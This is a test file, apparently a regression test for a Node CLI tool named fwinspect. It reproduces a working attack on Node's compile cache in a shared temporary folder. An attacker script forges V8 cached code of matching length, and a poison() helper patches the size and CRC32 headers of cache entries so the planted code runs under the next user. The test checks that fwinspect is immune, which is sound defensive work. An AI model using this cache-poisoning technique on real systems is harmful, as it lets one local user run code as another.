/**
 * Node's compile cache lies in a predictable folder of the shared temporary one, and what lies there is run: an attacker who was there first runs code
 * as whoever comes after. The attack is carried out here, first against a program that switches the cache on, then against fwinspect.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { crc32 } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { OTHER_NODES, nodeProgram } from '../support/nodes.js';

const root = fileURLToPath(new URL('../../', import.meta.url));
const temp = mkdtempSync(join(tmpdir(), 'fwinspect-compile-cache-'));
const bin = join(temp, 'bin', 'fwinspect.js');
const bundle = join(temp, 'dist', 'cli.cjs');
const OWNED = 'OWNED';

beforeAll(() => {
  cpSync(join(root, 'bin'), join(temp, 'bin'), { recursive: true });
  cpSync(join(root, 'dist'), join(temp, 'dist'), { recursive: true, filter: (path) => !path.endsWith('.cache') });
  // What fwinspect once did.
  writeFileSync(
    join(temp, 'victim.mjs'),
    `import module from 'node:module';
     module.enableCompileCache();
     module.createRequire(import.meta.url)(${JSON.stringify(bundle)});`,
  );
  // V8 takes code for that of a source of the same length.
  writeFileSync(
    join(temp, 'attacker.cjs'),
    `const vm = require('node:vm');
     const length = require('node:fs').readFileSync(${JSON.stringify(bundle)}, 'utf8').length;
     const evil = 'console.log("${OWNED}"); process.exit(0);'.padEnd(length);
     const names = ['exports', 'require', 'module', '__filename', '__dirname'];
     const made = vm.compileFunction(evil, names, { filename: ${JSON.stringify(bundle)}, produceCachedData: true });
     process.stdout.write(made.cachedData);`,
  );
});
afterAll(() => {
  rmSync(temp, { recursive: true, force: true });
});

/** Magic, size and checksum of the source, size and checksum of the code: five words before it. Source: Node, src/compile_cache.cc. */
const WORDS = 5;

/** Puts other code into every entry of the bundle; gives how many there were. */
function poison(folder: string, code: Buffer): number {
  const size = statSync(bundle).size;
  const entries = readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map((name) => join(folder, name))
    .filter((path) => statSync(path).isFile())
    .filter((path) => {
      const entry = readFileSync(path);
      return [1, 2].some((at) => entry.length > 4 * WORDS && entry.readUInt32LE(4 * at) === size);
    });
  for (const path of entries) {
    const head = readFileSync(path).subarray(0, 4 * WORDS);
    head.writeUInt32LE(code.length, 8);
    head.writeUInt32LE(crc32(code), 16);
    writeFileSync(path, Buffer.concat([head, code]));
  }
  return entries.length;
}

describe.each(OTHER_NODES)('Node %s', (version) => {
  test('planted code is run where the cache is on, and never by fwinspect', async ({ skip }) => {
    const node = await nodeProgram(version);
    if (node === null) return skip('npm did not give this Node');
    const shared = join(temp, `shared-${version}`);
    mkdirSync(shared);
    const { NODE_COMPILE_CACHE: _c, NODE_OPTIONS: _o, NODE_V8_COVERAGE: _v, ...rest } = process.env;
    const env = { ...rest, TMPDIR: shared, TMP: shared, TEMP: shared };
    const run = (...args: readonly string[]): Buffer =>
      spawnSync(node, args, { cwd: temp, env, maxBuffer: 1e8 }).stdout;

    expect(run(join(temp, 'victim.mjs')).toString()).not.toContain(OWNED);
    expect(poison(shared, run(join(temp, 'attacker.cjs')))).toBeGreaterThan(0);
    expect(run(join(temp, 'victim.mjs')).toString()).toContain(OWNED);

    const found = run(bin, '--version').toString();
    expect(found).toMatch(/^\d+\.\d+\.\d+/);
    expect(found).not.toContain(OWNED);
  });
});
